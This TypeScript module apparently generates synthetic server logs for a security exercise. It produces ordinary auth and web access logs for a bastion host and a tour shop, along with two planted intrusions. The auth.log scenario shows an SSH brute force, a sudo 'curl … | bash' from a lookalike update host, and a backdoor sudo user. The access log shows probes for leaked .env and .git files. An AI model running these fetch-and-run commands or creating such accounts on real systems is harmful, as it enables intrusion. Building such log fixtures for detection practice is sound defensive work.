import { attackerAddress } from './early-leaked-key.ts'
import type { Chance } from './random.ts'

const minute = 60_000
const day = 86_400_000
const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec']

/** A line and when it was written, milliseconds since 1970. */
export interface Line {
  readonly at: number
  readonly text: string
}

/** RFC 3164: no year, no zone. */
function syslog(at: number, program: string, message: string): Line {
  const date = new Date(at)
  const stamp = `${months[date.getUTCMonth()]} ${String(date.getUTCDate()).padStart(2)} ${date.toISOString().slice(11, 19)}`
  return { at, text: `${stamp} bastion01 ${program}: ${message}` }
}

const scanners = ['45.148.10.87', '92.255.85.60', '103.99.0.122', '218.92.0.31']
const guesses = ['admin', 'test', 'oracle', 'ubuntu', 'git', 'postgres']
const people = [
  ['mira.holt', '203.0.113.20', 'SHA256:5mU0mJr3g1y7bq2lPpzq0R3kH8vYw1xk9tC4eZsVd1E'],
  ['jonas.brandt', '198.51.100.77', 'SHA256:q8hZ0o6sYx2c5Nf1Vb7mTt4Lr9WkEa3uJd6iPgXy0Bc'],
] as const

/** The bastion host's auth.log: cron, sign-ins by key, the noise of the internet. */
export function ordinaryAuthLog(start: number, days: number, chance: Chance): Line[] {
  return Array.from({ length: days }, (_, index) => {
    const midnight = start + index * day
    return [...cron(midnight, chance), ...visits(midnight, chance), ...noise(midnight, chance)]
  }).flat()
}

function cron(midnight: number, chance: Chance): Line[] {
  return Array.from({ length: 24 }, (_, hour) => {
    const at = midnight + hour * 60 * minute + 17 * minute + 1_000
    return syslog(at, `CRON[${chance.between(2_000, 60_000)}]`, '(root) CMD (   cd / && run-parts --report /etc/cron.hourly)')
  })
}

function visits(midnight: number, chance: Chance): Line[] {
  return people.flatMap(([user, address, key]) => {
    const at = midnight + chance.between(8, 16) * 60 * minute + chance.between(0, 59) * minute
    const pid = chance.between(2_000, 60_000)
    const port = chance.between(40_000, 60_000)
    return [
      syslog(at, `sshd[${pid}]`, `Accepted publickey for ${user} from ${address} port ${port} ssh2: ED25519 ${key}`),
      syslog(at + 60, `sshd[${pid}]`, `pam_unix(sshd:session): session opened for user ${user}(uid=1001) by (uid=0)`),
      syslog(at + 3 * minute, 'sudo', `${user.padStart(8)} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx`),
      syslog(at + 21 * minute, `sshd[${pid}]`, `Disconnected from user ${user} ${address} port ${port}`),
    ]
  })
}

function noise(midnight: number, chance: Chance): Line[] {
  return Array.from({ length: chance.between(6, 14) }, () => {
    const at = midnight + chance.between(0, day - 1)
    const line = `Failed password for invalid user ${chance.pick(guesses)} from ${chance.pick(scanners)} port ${chance.between(30_000, 60_000)} ssh2`
    return syslog(at, `sshd[${chance.between(2_000, 60_000)}]`, line)
  })
}

/** 412 guesses at one account, one that works, and what was done with it. */
export function bastionIntrusion(from: number, chance: Chance): Line[] {
  const lines: Line[] = []
  let at = from
  for (let guess = 0; guess < 412; guess += 1) {
    at += chance.between(1_200, 3_400)
    lines.push(
      syslog(
        at,
        `sshd[${chance.between(2_000, 60_000)}]`,
        `Failed password for backup from ${attackerAddress} port ${chance.between(30_000, 60_000)} ssh2`,
      ),
    )
  }
  at += 2_600
  lines.push(syslog(at, 'sshd[41877]', `Accepted password for backup from ${attackerAddress} port 51344 ssh2`))
  lines.push(syslog(at + 80, 'sshd[41877]', 'pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)'))
  const commands = ['/usr/bin/id', '/bin/bash', '/usr/bin/bash -c curl -s http://files.update-mirror.net/s/u.sh | bash']
  for (const command of commands) {
    at += chance.between(20_000, 90_000)
    lines.push(syslog(at, 'sudo', `  backup : TTY=pts/1 ; PWD=/var/backups ; USER=root ; COMMAND=${command}`))
  }
  lines.push(
    syslog(at + 40_000, 'useradd[41990]', 'new user: name=sysupdate, UID=1009, GID=1009, home=/home/sysupdate, shell=/bin/bash, from=/dev/pts/1'),
  )
  lines.push(syslog(at + 52_000, 'usermod[41996]', "add 'sysupdate' to group 'sudo'"))
  return lines
}

const pages = [
  '/',
  '/tours',
  '/tours/lisbon',
  '/tours/oslo',
  '/search?q=lake',
  '/account',
  '/cart',
  '/static/app.css',
  '/static/app.js',
  '/images/hero.webp',
]
const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
]

function access(parts: { at: number; address: string; request: string; status: number; bytes: number; agent: string }): Line {
  const date = new Date(parts.at)
  const stamp = `${String(date.getUTCDate()).padStart(2, '0')}/${months[date.getUTCMonth()]}/${date.getUTCFullYear()}:${date.toISOString().slice(11, 19)} +0000`
  return { at: parts.at, text: `${parts.address} - - [${stamp}] "${parts.request}" ${parts.status} ${parts.bytes} "-" "${parts.agent}"` }
}

/** The shop's web access log (combined form). */
export function ordinaryAccessLog(start: number, days: number, chance: Chance): Line[] {
  return Array.from({ length: days * 170 }, () => {
    const at = start + chance.between(0, days * day - 1)
    const address = chance.pick(['192.0.2', '198.51.100', '203.0.113'])
    const missing = chance.next() < 0.03
    return access({
      at,
      address: `${address}.${chance.between(100, 250)}`,
      request: `GET ${missing ? '/favicon.png' : chance.pick(pages)} HTTP/1.1`,
      status: missing ? 404 : 200,
      bytes: chance.between(400, 42_000),
      agent: chance.pick(browsers),
    })
  })
}

/** Somebody looks for forgotten files, and finds one. */
export function exposedFile(from: number): Line[] {
  const tried = [
    ['/.git/config', 404, 162],
    ['/wp-config.php.bak', 404, 162],
    ['/backup.sql', 404, 162],
    ['/.env.production', 404, 162],
    ['/deploy/.env', 200, 611],
  ] as const
  const agent = 'python-requests/2.31.0'
  return tried.map(([path, status, bytes], index) =>
    access({ at: from + index * 1_700, address: attackerAddress, request: `GET ${path} HTTP/1.1`, status, bytes, agent }),
  )
}
